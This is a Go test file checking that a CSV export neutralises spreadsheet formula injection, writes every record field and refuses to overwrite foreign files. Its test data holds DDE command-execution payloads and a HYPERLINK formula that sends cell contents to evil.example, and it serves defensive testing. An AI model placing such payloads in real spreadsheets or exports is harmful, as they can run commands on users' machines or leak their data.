package bookfile_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	gocmp "github.com/google/go-cmp/cmp"

	"github.com/briefbot/briefbot/briefings"
	"github.com/briefbot/briefbot/briefings/bookfile"
)

// formulas are cells that spreadsheets take for formulas, and such as only
// look alike.
var formulas = []string{
	"=1+1", "=cmd|' /C calc'!A0", `=HYPERLINK("https://evil.example?x="&A1,"Click")`, "+1", "+cmd|' /C calc'!A0", "-1", "-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
	"'=1", "''=1", "'", "''", "'90s", "plain", "a=1", " =1", "", "\"=1\"", "a,b;c", "a\nb", `"`, "1", "é", "-",
}

// unguard is what a reader of the files does.
func unguard(cell string) string {
	rest := strings.TrimLeft(cell, "'")
	if len(rest) < len(cell) && rest != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(rest)[0]) {
		return cell[1:]
	}
	return cell
}

func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	// RFC 4180: every line ends in CRLF, within cells too.
	if bare := bytes.ReplaceAll(data, []byte("\r\n"), nil); bytes.ContainsAny(bare, "\n") {
		t.Errorf("%s has a line that does not end in CRLF", path)
	}
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	return rows
}

func TestWriteCSV_NoCellIsAFormulaAndEachComesBack(t *testing.T) {
	c := &briefings.Contents{Book: &briefings.Book{ID: "b", Name: "B"}}
	for _, f := range formulas {
		c.Entries = append(c.Entries, &briefings.Entry{
			ID: "a", Kind: briefings.Person, Name: f, Aliases: []string{f}, Role: f, Summary: f, WhyNow: f, Open: []string{f},
			Claim: briefings.Claim{Attribution: f, VerifiedBy: f},
		})
		c.Reports = append(c.Reports, &briefings.Report{ID: "a", Kind: briefings.Status, Text: f, Detail: f, Why: f, Next: f})
		c.Sources = append(c.Sources, &briefings.Source{ID: "a", Name: f, URL: f})
	}
	dir := t.TempDir()
	if err := bookfile.WriteCSV(dir, c); err != nil {
		t.Fatal(err)
	}
	for file, columns := range map[string][]string{
		"entries.csv": {"name", "aliases", "role", "summary", "why_now", "open", "attribution", "verified_by"},
		"reports.csv": {"text", "detail", "why", "next"},
		"sources.csv": {"name", "url"},
	} {
		rows := readCSV(t, filepath.Join(dir, file))
		if len(rows) != len(formulas)+1 {
			t.Fatalf("%s has %d rows", file, len(rows))
		}
		for i, row := range rows[1:] {
			for j, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0]) {
					t.Errorf("%s: the cell %q is a formula", file, cell)
				}
				// Excel and encoding/csv drop a CR before a line feed or alone.
				want := strings.ReplaceAll(formulas[i], "\r", "")
				if slices.Contains(columns, rows[0][j]) && strings.ReplaceAll(unguard(cell), "\r", "") != want {
					t.Errorf("%s: %s came back as %q, not %q", file, rows[0][j], unguard(cell), want)
				}
			}
		}
	}
}

func TestWriteCSV_HasEveryFieldOfARecord(t *testing.T) {
	dir := t.TempDir()
	if err := bookfile.WriteCSV(dir, mustRead(t, formatBlocks(t)[0])); err != nil {
		t.Fatal(err)
	}
	for file, want := range map[string]string{
		"entries.csv": "ada-byrne,person,Ada Byrne,Byrne; harbour master,Harbour master,port-company,She has run the port since 2019.,She leads the port's side in the pay talks.,Whether she can sign without her board.,,80,2019,,high,official,port-notice,2026-03-04T00:00Z,,",
		"reports.csv": "first-round,event,The two sides met for the first time.,They sat for six hours.,,,town-hall,pay-talks; port-company; pilots-union; ada-byrne,,,,,,,0,2026-03-02T09:30Z,,high,official,port-notice; pilots-letter,2026-03-04T00:00Z,,",
		"sources.csv": "port-notice,Notice to mariners 12/26,https://port.example/notices/12-26,,2026-03-03,",
	} {
		rows := readCSV(t, filepath.Join(dir, file))
		found := false
		for _, row := range rows {
			found = found || strings.Join(row, ",") == want
		}
		if !found {
			t.Errorf("%s does not hold\n%s\n%q", file, want, rows)
		}
	}
	rows := readCSV(t, filepath.Join(dir, "entries.csv"))
	want := []string{"slug", "kind", "name", "aliases", "role", "affiliation", "summary", "why_now", "open", "links", "importance", "date", "attribution", "confidence", "nature", "sources", "recorded", "verified_until", "verified_by"}
	if diff := gocmp.Diff(want, rows[0]); diff != "" {
		t.Errorf("header:\n%s", diff)
	}
}

func TestWriteCSV_ReplacesOnlyItsOwn(t *testing.T) {
	dir := t.TempDir()
	c := mustRead(t, header)
	for range 2 {
		if err := bookfile.WriteCSV(dir, c); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(dir, "notes.txt"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := bookfile.WriteCSV(dir, c); !errors.Is(err, briefings.ErrConflict) {
		t.Errorf("got %v, want ErrConflict", err)
	}
}
